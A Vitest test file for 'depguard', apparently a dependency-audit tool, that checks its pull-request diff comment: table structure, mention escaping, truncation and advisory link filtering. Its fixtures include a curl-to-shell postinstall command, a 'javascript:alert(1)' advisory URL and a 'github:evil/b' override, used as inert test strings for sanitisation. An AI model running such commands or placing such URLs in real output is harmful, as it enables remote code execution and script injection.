// The pull-request comment: whole text by snapshot, structure by a markdown
// parser (GitHub-flavoured tables must stay tables whatever the cells hold),
// and the size limit with counted truncation.
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmTableFromMarkdown } from 'mdast-util-gfm-table';
import { toString } from 'mdast-util-to-string';
import { gfmTable } from 'micromark-extension-gfm-table';
import { describe, expect, it } from 'vitest';
import type { DiffResult } from '../../src/render/diff-model.js';
import { diff } from '../../src/commands/diff/run.js';
import type { AuditResult, Finding } from '../../src/model.js';
import { COMMENT_LIMIT, diffMarkdown } from '../../src/render/diff-markdown.js';
import { diffTable } from '../../src/render/diff-table.js';
import { diffJson } from '../../src/render/diff-json.js';
import { fixture } from '../helpers/project.js';
import { EXAMPLE_REGISTRY } from '../helpers/run.js';
import { finding, tempDir } from './helpers.js';

type Node = { type: string; children?: Node[]; value?: string };

function parse(markdown: string): Node {
  return fromMarkdown(markdown, { extensions: [gfmTable()], mdastExtensions: [gfmTableFromMarkdown()] }) as unknown as Node;
}

function all(node: Node, type: string): Node[] {
  return [...(node.type === type ? [node] : []), ...(node.children ?? []).flatMap((child) => all(child, type))];
}

/** Every table row has the header's cell count, and every `|` line of the text belongs to a table. */
function expectWellFormedTables(markdown: string): Node[] {
  const tables = all(parse(markdown), 'table');
  for (const table of tables) {
    const [header, ...rows] = table.children!;
    for (const row of rows) expect(row.children!.length).toBe(header!.children!.length);
  }
  const pipeLines = markdown.split('\n').filter((line) => line.startsWith('|')).length;
  // Each table is its rows plus one delimiter line.
  expect(tables.reduce((sum, table) => sum + table.children!.length + 1, 0)).toBe(pipeLines);
  expect(markdown.match(/<details>/g)?.length ?? 0).toBe(markdown.match(/<\/details>/g)?.length ?? 0);
  return tables;
}

/** Cell texts, without the zero-width spaces that silence @mentions. */
function cells(table: Node): string[][] {
  return table.children!.map((row) => row.children!.map((cell) => toString(cell).replaceAll('\u200b', '')));
}

const SUMMARY = { info: 0, low: 0, moderate: 0, high: 0, critical: 0, waived: 0 };

function result(diffPart: Partial<DiffResult['diff']>, head: Partial<AuditResult> = {}): DiffResult {
  const side = (ref: string | null, commit: string | null) => ({ ref, commit, path: '.', project: { name: 'shop', version: '1.0.0', path: '.', packageCount: 10 }, summary: SUMMARY });
  const report: DiffResult['diff'] = {
    base: side('origin/main', '0123456789abcdef0123456789abcdef01234567'),
    head: side(null, null),
    summary: { added: 0, removed: 0, upgraded: 0, downgraded: 0, changed: 0, newFindings: { ...SUMMARY }, resolvedFindings: 0, installScripts: 0, manifestChanges: 0 },
    added: [],
    removed: [],
    changed: [],
    newFindings: [],
    resolvedFindings: [],
    installScripts: [],
    manifest: [],
    ...diffPart,
  };
  report.summary = {
    added: report.added.length,
    removed: report.removed.length,
    upgraded: report.changed.filter((c) => c.change === 'upgraded').length,
    downgraded: report.changed.filter((c) => c.change === 'downgraded').length,
    changed: report.changed.length,
    newFindings: { ...SUMMARY },
    resolvedFindings: report.resolvedFindings.length,
    installScripts: report.installScripts.length,
    manifestChanges: report.manifest.length,
  };
  for (const f of report.newFindings) {
    if (f.waived) report.summary.newFindings.waived++;
    else report.summary.newFindings[f.severity]++;
  }
  return { schemaVersion: 1, tool: { name: 'depguard', version: '0.1.0' }, project: { name: 'shop', version: '1.0.0', path: '.', packageCount: 10 }, summary: SUMMARY, findings: [], diagnostics: [], ...head, diff: report };
}

const advisory = { id: 'GHSA-p6mc-m468-83gw', aliases: ['CVE-2020-8203'], url: 'https://github.com/advisories/GHSA-p6mc-m468-83gw', title: 'Prototype Pollution in lodash', range: '<4.17.19', source: 'npm' };

const tricky: Finding = finding({
  rule: 'install-scripts/unapproved',
  severity: 'high',
  package: { name: '@evil/pipe_pkg', version: '1.0.0', location: 'node_modules/@evil/pipe_pkg' },
  paths: [['tsx@4.23.15', '@evil/pipe_pkg@1.0.0']],
  message: 'runs postinstall "curl https://x.example | sh -c `cat`" with *stars* and <b>tags</b> [link](x) \\ backslash, for project @acme/shop',
});

const sample = result({
  installScripts: [{ name: 'esbuild', version: '0.28.2', direct: false, kind: 'dev', approved: null, events: ['postinstall'], paths: [['tsx@4.23.15', 'esbuild@0.28.2']] }],
  newFindings: [
    tricky,
    finding({ rule: 'advisories/vulnerable', check: 'advisories', severity: 'high', package: { name: 'lodash', version: '4.17.15', location: 'node_modules/lodash' }, paths: [['lodash@4.17.15']], message: 'lodash@4.17.15: Prototype Pollution in lodash', advisory }),
    finding({ rule: 'capabilities/network', check: 'capabilities', severity: 'moderate', package: { name: 'left-pad', version: '2.0.0', location: 'node_modules/left-pad' }, paths: [['left-pad@2.0.0']], message: 'left-pad@2.0.0 opens network connections' }),
    finding({ rule: 'pinning/range', severity: 'moderate', package: { name: 'zod', version: '4.6.7', location: 'node_modules/zod' }, paths: [['zod@4.6.7']], message: 'zod is the range "^4.6.7"', waived: { id: 'pinning/range', reason: 'ok', expires: '2027-01-01' } }),
  ],
  resolvedFindings: [finding({ rule: 'advisories/vulnerable', check: 'advisories', severity: 'critical', package: { name: 'minimist', version: '1.2.5', location: 'node_modules/minimist' }, message: 'minimist@1.2.5: Prototype Pollution', advisory: { ...advisory, id: 'GHSA-xvch-5gv4-984h', url: 'javascript:alert(1)' } })],
  added: [
    { name: 'tsx', version: '4.23.15', direct: true, kind: 'dev', source: 'registry', hasInstallScript: false, paths: [['tsx@4.23.15']] },
    { name: 'esbuild', version: '0.28.2', direct: false, kind: 'dev', source: 'registry', hasInstallScript: true, paths: [['tsx@4.23.15', 'esbuild@0.28.2']] },
  ],
  removed: [{ name: 'cors', version: '2.8.6', direct: true, kind: 'prod', source: 'registry', paths: [['cors@2.8.6']] }],
  changed: [{ name: 'pino', from: ['10.3.1'], to: ['10.4.0'], change: 'upgraded', direct: true, kind: 'prod', source: 'registry', hasInstallScript: false, paths: [['pino@10.4.0']] }],
  manifest: [
    { kind: 'spec-loosened', file: 'package.json', field: 'dependencies', key: 'zod', from: '4.6.7', to: '^4.6.7', looseness: { from: 'exact', to: 'range' } },
    { kind: 'override-added', file: 'package.json', field: 'overrides', key: 'a > b|c', from: null, to: 'github:evil/b' },
  ],
});

describe('diff markdown', () => {
  it('renders the comment (snapshot)', () => {
    expect(diffMarkdown(sample, { color: false, failOn: 'high', marker: 'depguard-diff .' })).toMatchSnapshot();
  });

  it('keeps every table well-formed and every cell verbatim, whatever characters it holds', () => {
    const markdown = diffMarkdown(sample, { color: false, failOn: 'high', marker: 'depguard-diff .' });
    const tables = expectWellFormedTables(markdown);
    const texts = tables.flatMap(cells);
    // (the empty cell is the advisory column, which this finding has none for)
    expect(texts).toContainEqual(['high', 'install-scripts/unapproved', '@evil/pipe_pkg@1.0.0', tricky.message, '', 'tsx@4.23.15']);
    expect(texts).toContainEqual(['new override', 'package.json', 'overrides', 'a > b|c', '', 'github:evil/b']);
    // Package names are code (copyable, never a mention); in free text an @ at a word start is followed by a zero-width space.
    expect(markdown).toContain('| `@evil/pipe_pkg@1.0.0` |');
    expect(markdown).toContain('project @\u200bacme/shop');
    expect(markdown).not.toMatch(/(^|[^\w`])@[a-z]/m);
    // Waived new findings say so; they do not fail the gate.
    expect(texts.some((row) => row[0] === 'moderate (waived)' && row[2] === 'zod@4.6.7')).toBe(true);
  });

  it('starts with the hidden marker and a verdict on new findings only', () => {
    const markdown = diffMarkdown(sample, { color: false, failOn: 'high', marker: 'depguard-diff packages/api' });
    const lines = markdown.split('\n');
    expect(lines[0]).toBe('<!-- depguard-diff packages/api -->');
    expect(lines[1]).toBe('### :x: depguard: FAIL: this change adds 2 findings at or above high');
    expect(diffMarkdown(sample, { color: false, failOn: 'critical' }).split('\n')[0]).toBe('### :white_check_mark: depguard: pass: no new finding at or above critical');
    expect(diffMarkdown(result({}), { color: false, failOn: 'high' })).toContain('No new findings.');
  });

  it('links advisories by their http(s) URL only', () => {
    const markdown = diffMarkdown(sample, { color: false, failOn: 'high' });
    const links = all(parse(markdown), 'link') as Array<Node & { url?: string }>;
    expect(links.map((link) => [toString(link), link.url])).toEqual([['GHSA-p6mc-m468-83gw', 'https://github.com/advisories/GHSA-p6mc-m468-83gw']]);
    expect(markdown).not.toContain('javascript:');
    expect(markdown).toContain('GHSA-xvch-5gv4-984h');
  });

  it('calls out new install scripts and capabilities before the other new findings', () => {
    const markdown = diffMarkdown(sample, { color: false, failOn: 'high' });
    const headings = all(parse(markdown), 'heading').map((heading) => toString(heading));
    expect(headings.slice(1)).toEqual(['New install scripts (1)', 'New capabilities (1)', 'Other new findings (3)']);
  });

  it('stays under GitHub\'s comment limit, cutting the collapsed lists first, with counts of what it left out', () => {
    const many = result({
      newFindings: Array.from({ length: 40 }, (_, i) => finding({ rule: 'pinning/range', severity: 'high', package: { name: `dep-${i}`, version: '1.0.0', location: `node_modules/dep-${i}` }, message: `dep-${i} ${'x'.repeat(400)}` })),
      added: Array.from({ length: 5000 }, (_, i) => ({ name: `transitive-package-${String(i).padStart(4, '0')}`, version: '1.0.0', direct: false, kind: 'prod' as const, source: 'registry' as const, hasInstallScript: false, paths: [['a@1.0.0', 'b@1.0.0', `transitive-package-${i}@1.0.0`]] })),
    });
    const markdown = diffMarkdown(many, { color: false, failOn: 'high', marker: 'depguard-diff .' });
    expect(markdown.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(markdown.length).toBeGreaterThan(COMMENT_LIMIT - 2_000);
    const tables = expectWellFormedTables(markdown);
    // Every new finding is shown; the 5,000 added packages are cut, with the count left out.
    expect(cells(tables[0]!).length - 1).toBe(40);
    const shown = cells(tables[1]!).length - 1;
    expect(shown).toBeGreaterThan(100);
    expect(markdown).toContain(`_… and ${5000 - shown} more not shown here; \`depguard diff --format json\` lists them all._`);
    expect(markdown).toContain('<summary>Dependencies: 5000 added, 0 removed, 0 upgraded, 0 downgraded</summary>');
  });

  it('cuts the new findings too when a smaller limit demands it', () => {
    const many = result({ newFindings: Array.from({ length: 200 }, (_, i) => finding({ rule: 'pinning/range', package: { name: `dep-${i}`, version: '1.0.0', location: '' }, message: 'm'.repeat(200) })) });
    const markdown = diffMarkdown(many, { color: false, failOn: 'high', limit: 10_000 });
    expect(markdown.length).toBeLessThanOrEqual(10_000);
    const [table] = expectWellFormedTables(markdown);
    const shown = cells(table!).length - 1;
    expect(shown).toBeLessThan(200);
    expect(markdown).toContain(`_… and ${200 - shown} more not shown here`);
    // The verdict still counts them all.
    expect(markdown).toContain('FAIL: this change adds 200 findings at or above high');
  });

  it('renders a real diff (real-service, head against the base folder) well-formed', async () => {
    const { result: real } = await diff({ path: fixture('diff-real-service-after'), base: fixture('diff-real-service-before'), cwd: fixture('diff-real-service-after'), registries: EXAMPLE_REGISTRY, today: '2026-11-27', registryAccess: { mode: 'offline', cache: tempDir() }, skip: ['advisories'] });
    const markdown = diffMarkdown(real, { color: false, failOn: 'high', marker: 'depguard-diff .' });
    // Structure, not text: the findings' messages belong to the checks and may be reworded.
    const tables = expectWellFormedTables(markdown);
    expect(tables.map((table) => cells(table).length - 1)).toEqual([1, 2, 3, 30, 2]);
    const headings = all(parse(markdown), 'heading').map((heading) => toString(heading));
    expect(headings).toEqual([':x: depguard: FAIL: this change adds 1 finding at or above high', 'New install scripts (1)', 'New findings (2)']);
    expect(markdown).toContain('real-service against `../diff-real-service-before`');
  });
});

describe('diff table and json', () => {
  it('prints install scripts first and ends with the summary line (snapshot)', () => {
    const text = diffTable(sample, { color: false, failOn: 'high', width: 120 });
    expect(text.indexOf('New install scripts')).toBeLessThan(text.indexOf('New capabilities'));
    expect(text.trimEnd().split('\n').at(-1)).toBe('3 new findings (2 high, 1 moderate), 1 waived, 1 resolved; packages: 2 added, 1 removed, 1 upgraded, 0 downgraded; FAIL: this change adds 2 findings at or above high');
    expect(text).toMatchSnapshot();
  });

  it('prints the check document plus diff as JSON', () => {
    const doc = JSON.parse(diffJson(sample, { color: false, failOn: 'high' }));
    expect(doc.diff.newFindings).toHaveLength(4);
    expect(Object.keys(doc)).toEqual(['schemaVersion', 'tool', 'project', 'summary', 'findings', 'diagnostics', 'diff']);
  });
});
